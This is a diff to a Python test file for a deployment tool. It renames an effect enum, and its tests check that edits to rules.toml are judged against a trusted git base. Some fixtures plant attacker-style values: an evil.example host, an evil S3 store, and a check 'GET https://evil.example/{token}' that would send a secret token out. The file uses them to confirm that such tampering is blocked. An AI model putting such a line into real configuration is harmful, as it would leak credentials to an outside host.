@@ -12,7 +12,7 @@ from toolkit.errors import FileProblem, MissingCommit, NoTrustedBase, UsageError
 from toolkit.flow import checks
 from toolkit.flow.rulebook import environment
 from toolkit.flow.trusted import load_trusted
-from toolkit.model import Backwards, Effect, Rules
+from toolkit.model import Backwards, JudgeEffect, Rules
 from toolkit.ports.git import Git
 
 RULES = """\
@@ -97,7 +97,7 @@ def changed(repo: Repo, old: str, new: str, file: str = "rules.toml") -> Rules:
     return loaded(repo)
 
 
-def differences(rules: Rules) -> list[tuple[str, Effect]]:
+def differences(rules: Rules) -> list[tuple[str, JudgeEffect]]:
     return [(difference.what, difference.effect) for difference in rules.trust.differences]
 
 
@@ -127,27 +127,27 @@ def test_line_ends_are_no_difference(clone: Repo) -> None:
 @pytest.mark.parametrize(
     ("field", "old", "new", "effect"),
     [
-        ("store", '"s3://good/record"', '"s3://evil/record"', Effect.CONSENT),
-        ("account", '"111111111111"', '"999999999999"', Effect.CONSENT),
-        ("regions", '["eu-west-1"]', '["us-east-1"]', Effect.CONSENT),
-        ("profile", 'profile = "shop"', 'profile = "evil"', Effect.CONSENT),
-        ("protected", "protected = true", "protected = false", Effect.DUE),
-        ("rollback", '"on-failure"', '"never"', Effect.DUE),
-        ("backwards", "protected = true", 'protected = true\nbackwards = "allow"', Effect.DUE),
-        ("urls", '["https://{host}"]', '["https://evil.example"]', Effect.DUE),
-        ("hosts", '"api.example.com"]', '"evil.example"]', Effect.DUE),
-        ("private", "protected = true", "protected = true\nprivate = true", Effect.DUE),
+        ("store", '"s3://good/record"', '"s3://evil/record"', JudgeEffect.CONSENT),
+        ("account", '"111111111111"', '"999999999999"', JudgeEffect.CONSENT),
+        ("regions", '["eu-west-1"]', '["us-east-1"]', JudgeEffect.CONSENT),
+        ("profile", 'profile = "shop"', 'profile = "evil"', JudgeEffect.CONSENT),
+        ("protected", "protected = true", "protected = false", JudgeEffect.DUE),
+        ("rollback", '"on-failure"', '"never"', JudgeEffect.DUE),
+        ("backwards", "protected = true", 'protected = true\nbackwards = "allow"', JudgeEffect.DUE),
+        ("urls", '["https://{host}"]', '["https://evil.example"]', JudgeEffect.DUE),
+        ("hosts", '"api.example.com"]', '"evil.example"]', JudgeEffect.DUE),
+        ("private", "protected = true", "protected = true\nprivate = true", JudgeEffect.DUE),
     ],
 )
 def test_what_an_environment_judges_by_is_that_of_the_trusted_base(
-    clone: Repo, field: str, old: str, new: str, effect: Effect
+    clone: Repo, field: str, old: str, new: str, effect: JudgeEffect
 ) -> None:
     trusted = loaded(clone).environments["dev"]
     rules = changed(clone, old, new)
     assert differences(rules) == [(f"environments.dev.{field}", effect)]
     assert rules.environments["dev"] == trusted
     assert rules.trust.is_due("dev")
-    assert rules.trust.is_refused("dev") == (effect is Effect.CONSENT)
+    assert rules.trust.is_refused("dev") == (effect is JudgeEffect.CONSENT)
     assert not rules.trust.is_due("prod")
 
 
@@ -179,7 +179,7 @@ def test_the_gates_of_a_target_are_those_of_the_trusted_base(
 ) -> None:
     trusted = loaded(clone).targets["app"]
     rules = changed(clone, old, new)
-    assert differences(rules) == [(f"targets.app.{field}", Effect.DUE)]
+    assert differences(rules) == [(f"targets.app.{field}", JudgeEffect.DUE)]
     assert rules.targets["app"] == trusted
 
 
@@ -191,7 +191,7 @@ def test_what_is_deployed_is_what_this_rules_toml_says(clone: Repo) -> None:
 
 def test_a_target_that_gives_up_its_gates_by_another_name_needs_consent(clone: Repo) -> None:
     rules = changed(clone, "[targets.app]", "[targets.web]")
-    assert ("targets.app", Effect.CONSENT) in differences(rules)
+    assert ("targets.app", JudgeEffect.CONSENT) in differences(rules)
 
 
 def test_a_target_that_is_only_gone_is_no_difference(clone: Repo) -> None:
@@ -205,7 +205,7 @@ def test_a_target_that_gives_up_its_gates_by_another_kind_needs_consent(clone: R
     start, end = RULES.index("[targets.app]"), RULES.index("[targets.old]")
     manual = '[targets.app]\nkind = "manual"\ninstructions = "by hand"\n\n'
     rules = changed(clone, RULES[start:end], manual)
-    assert differences(rules) == [("targets.app.kind", Effect.CONSENT)]
+    assert differences(rules) == [("targets.app.kind", JudgeEffect.CONSENT)]
 
 
 def test_a_new_target_has_its_own_gates(clone: Repo) -> None:
@@ -218,7 +218,7 @@ def test_a_new_target_has_its_own_gates(clone: Repo) -> None:
 
 def test_a_changed_check_is_not_used_and_makes_all_due(clone: Repo) -> None:
     rules = changed(clone, "GET /up", "GET /")
-    assert differences(rules) == [("checks.up", Effect.DUE)]
+    assert differences(rules) == [("checks.up", JudgeEffect.DUE)]
     assert checks.load(rules).checks["up"].asks == "GET /up"
     assert rules.trust.is_due("dev")
     assert rules.trust.is_due("prod")
@@ -226,20 +226,20 @@ def test_a_changed_check_is_not_used_and_makes_all_due(clone: Repo) -> None:
 
 def test_a_changed_check_of_an_included_file_is_not_used(clone: Repo) -> None:
     rules = changed(clone, "GET /login", "GET /logout", "checks/more.toml")
-    assert differences(rules) == [("checks.login", Effect.DUE)]
+    assert differences(rules) == [("checks.login", JudgeEffect.DUE)]
     assert checks.load(rules).checks["login"].asks == "GET /login"
 
 
 def test_a_check_that_is_gone_is_asked_all_the_same(clone: Repo) -> None:
     rules = changed(clone, 'include = ["checks/more.toml"]\n', "")
-    assert differences(rules)[0] == ("checks.login", Effect.DUE)
-    assert ("secrets.token", Effect.DUE) in differences(rules)
+    assert differences(rules)[0] == ("checks.login", JudgeEffect.DUE)
+    assert ("secrets.token", JudgeEffect.DUE) in differences(rules)
     assert set(checks.load(rules).checks) == {"up", "login"}
 
 
 def test_where_a_secret_comes_from_is_what_the_trusted_base_says(clone: Repo) -> None:
     rules = changed(clone, 'env = "TOKEN"', 'env = "AWS_SECRET_ACCESS_KEY"', "checks/more.toml")
-    assert differences(rules) == [("secrets.token", Effect.DUE)]
+    assert differences(rules) == [("secrets.token", JudgeEffect.DUE)]
     assert checks.load(rules).secrets["token"].env == "TOKEN"
 
 
@@ -247,7 +247,7 @@ def test_a_new_check_is_told_and_not_asked(clone: Repo) -> None:
     """It could hand a secret to anybody."""
     evil = '[checks.evil]\nhttp = "GET https://evil.example/{token}"\ntags = ["smoke"]\n\n'
     rules = changed(clone, "[secrets.token]", f"{evil}[secrets.token]", "checks/more.toml")
-    assert differences(rules) == [("checks.evil", Effect.TOLD)]
+    assert differences(rules) == [("checks.evil", JudgeEffect.TOLD)]
     assert set(checks.load(rules).checks) == {"up", "login"}
     assert not rules.trust.is_due("dev")
 
@@ -255,7 +255,7 @@ def test_a_new_check_is_told_and_not_asked(clone: Repo) -> None:
 def test_a_new_included_file_is_not_used(clone: Repo) -> None:
     clone.write({"checks/evil.toml": '[checks.evil]\nhttp = "GET /"\n'})
     rules = changed(clone, '["checks/more.toml"]', '["checks/more.toml", "checks/evil.toml"]')
-    assert differences(rules) == [("checks.evil", Effect.TOLD)]
+    assert differences(rules) == [("checks.evil", JudgeEffect.TOLD)]
     assert "evil" not in checks.load(rules).checks
 
 
@@ -277,15 +277,15 @@ def test_a_new_targets_own_new_check_needs_consent(clone: Repo) -> None:
     )
     rules = changed(clone, "[checks.up]", f"{new}{web}[checks.up]")
     assert differences(rules) == [
-        ("targets.web.checks", Effect.CONSENT),
-        ("checks.mine", Effect.TOLD),
+        ("targets.web.checks", JudgeEffect.CONSENT),
+        ("checks.mine", JudgeEffect.TOLD),
     ]
     assert rules.targets["web"].settings.checks == ("up",)
 
 
 def test_a_variable_in_an_address_that_judges_is_a_judge(clone: Repo) -> None:
     rules = changed(clone, 'host = "example.com"', 'host = "evil.example"')
-    assert differences(rules) == [("environments.dev.vars.host", Effect.CONSENT)]
+    assert differences(rules) == [("environments.dev.vars.host", JudgeEffect.CONSENT)]
     assert rules.environments["dev"].urls == ("https://example.com",)
     assert rules.environments["dev"].hosts == ("example.com", "api.example.com")
 
@@ -303,7 +303,7 @@ def test_a_new_environment_needs_consent_and_is_as_it_is_here(clone: Repo) -> No
         "[environments.prod]",
         f"{new}vars = {{ size = '1', host = 'h' }}\n\n[environments.prod]",
     )
-    assert differences(rules) == [("environments.qa", Effect.CONSENT)]
+    assert differences(rules) == [("environments.qa", JudgeEffect.CONSENT)]
     assert rules.environments["qa"].store == "s3://qa-record"
     assert (rules.trust.is_refused("qa"), rules.trust.is_due("qa")) == (True, True)
     assert (rules.trust.is_refused("dev"), rules.trust.is_due("dev")) == (False, False)
@@ -311,7 +311,7 @@ def test_a_new_environment_needs_consent_and_is_as_it_is_here(clone: Repo) -> No
 
 def test_the_default_environment_is_that_of_the_trusted_base(clone: Repo) -> None:
     rules = changed(clone, 'environment = "dev"', 'environment = "prod"')
-    assert differences(rules) == [("environment", Effect.TOLD)]
+    assert differences(rules) == [("environment", JudgeEffect.TOLD)]
     assert environment(None, rules) == "dev"
 
 
@@ -332,12 +332,12 @@ def test_a_default_environment_where_none_was_meant_needs_consent(clone: Repo, h
     hub.write({"rules.toml": RULES.replace('environment = "dev"\n', "")})
     hub.commit("none")
     clone.git("fetch", "-q")
-    assert differences(loaded(clone)) == [("environment", Effect.CONSENT)]
+    assert differences(loaded(clone)) == [("environment", JudgeEffect.CONSENT)]
 
 
 def test_another_project_would_be_another_record(clone: Repo) -> None:
     assert differences(changed(clone, 'project = "shop"', 'project = "other"')) == [
-        ("project", Effect.DUE)
+        ("project", JudgeEffect.DUE)
     ]
 
 
@@ -368,7 +368,7 @@ def test_rules_that_have_moved_are_compared_with_where_they_were(clone: Repo) ->
     clone.git("rm", "-q", "rules.toml")
     clone.write({".toolkit/rules.toml": text, ".toolkit/more.toml": MORE})
     rules = loaded(clone)
-    assert differences(rules) == [("environments.dev.store", Effect.CONSENT)]
+    assert differences(rules) == [("environments.dev.store", JudgeEffect.CONSENT)]
     assert rules.environments["dev"].store == "s3://good/record"
 
 
@@ -487,7 +487,7 @@ def test_somebody_may_name_another_trusted_base(
 
 def test_what_is_not_committed_is_not_trusted_where_head_is(hub: Repo) -> None:
     (hub.path / "rules.toml").write_text(RULES.replace("s3://good", "s3://mine"))
-    assert differences(loaded(hub)) == [("environments.dev.store", Effect.CONSENT)]
+    assert differences(loaded(hub)) == [("environments.dev.store", JudgeEffect.CONSENT)]
 
 
 def test_the_gravest_difference_is_told_first(clone: Repo) -> None:
@@ -495,7 +495,7 @@ def test_the_gravest_difference_is_told_first(clone: Repo) -> None:
     changed(clone, "protected = true", "protected = false")
     rules = changed(clone, '"111111111111"', '"999999999999"')
     effects = [effect for _, effect in differences(rules)]
-    assert effects == [Effect.CONSENT, Effect.DUE, Effect.TOLD]
+    assert effects == [JudgeEffect.CONSENT, JudgeEffect.DUE, JudgeEffect.TOLD]
 
 
 def test_outside_of_a_repository_rules_toml_is_what_somebody_has_made(tmp_path: Path) -> None:
